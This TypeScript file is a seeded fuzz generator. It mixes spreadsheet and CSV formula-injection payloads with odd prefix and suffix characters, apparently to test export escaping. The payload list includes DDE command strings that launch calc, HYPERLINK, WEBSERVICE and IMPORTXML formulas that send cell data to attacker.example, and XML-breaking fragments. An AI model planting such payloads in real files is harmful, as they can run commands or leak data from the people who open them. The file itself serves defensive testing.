/** Texts that somebody would put into a field to have a spreadsheet do something, by seed. */

const PAYLOADS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '|calc',
  '%0A=1',
  '=HYPERLINK("http://attacker.example/?x="&A1,"点这里")',
  '=WEBSERVICE("http://attacker.example/")',
  '=IMPORTXML("http://attacker.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '="a"&"b"',
  '<c><f>1+1</f></c>',
  ']]></t></is></c><c><f>1+1</f></c>',
  '&lt;f&gt;',
  '_x003D_1+1',
  '_x0009_=1',
  'http://attacker.example/',
  'mailto:a@attacker.example',
  "'=1+1",
  "''=1",
  '{=1+1}',
  '1e5',
  '2026-11-22',
  '007',
  'TRUE',
  '#REF!',
  '</sheetData>',
  '"',
  '""',
  '"=1"',
  ',=1',
  ';=1',
  '\\',
  '李甲子',
  '张"三',
  '地址,第2行\n=1+1',
  '\u202e=1+1',
  'a\u0301=1',
] as const;
const BEFORE = ['', '', ' ', '\t', '\r', '\n', '\r\n', '\0', '\u3000', '\u00a0', '\ufeff', '\u200b', "'", '"', ',', ' \t '] as const;
const AFTER = ['', '', ' ', '"', ',', '\n', '\r\n', '\r', '\u0007', '"\r\n=2+2', '😀', '\ud800'] as const;

/** Numbers between 0 and 1 that a seed determines (mulberry32). */
function dice(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export function hostileValues(count: number, seed: number): readonly string[] {
  const roll = dice(seed);
  const one = <T>(list: readonly T[]): T => list[Math.floor(roll() * list.length)] as T;
  return Array.from({ length: count }, () => one(BEFORE) + one(PAYLOADS) + one(AFTER));
}
